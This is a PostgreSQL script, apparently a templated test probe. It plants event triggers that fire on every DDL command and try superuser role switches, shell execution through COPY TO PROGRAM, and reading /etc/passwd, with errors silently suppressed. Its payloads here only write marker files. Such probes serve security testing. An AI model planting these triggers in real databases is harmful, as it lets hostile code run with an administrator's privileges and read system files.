-- Every way out of a server that a superuser has, or a member of the roles for it; from now on, and not by whoever made the rows.
create function stranger.escape(what text) returns void language plpgsql as $act$
declare
  way text;
begin
  foreach way in array array['', 'reset role', 'set session authorization default', 'set role postgres', 'set role plumbline_stranger_owner'] loop
    begin
      if way <> '' then
        execute way;
      end if;
      execute format('copy (select 1) to program %L', 'touch {mark}' || what);
    exception when others then
      null;
    end;
    begin
      perform pg_catalog.pg_read_file('/etc/passwd');
      execute format('copy (select 1) to %L', '{mark}read-' || what);
    exception when others then
      null;
    end;
  end loop;
end $act$;
create or replace function stranger.act(what text) returns boolean language plpgsql immutable as
  'begin perform stranger.escape(what); return true; end';
create function stranger.heard() returns event_trigger language plpgsql as 'begin perform stranger.act(tg_event); end';
create event trigger stranger_heard on ddl_command_end execute function stranger.heard();
create event trigger stranger_always on ddl_command_start execute function stranger.heard();
alter event trigger stranger_always enable always;
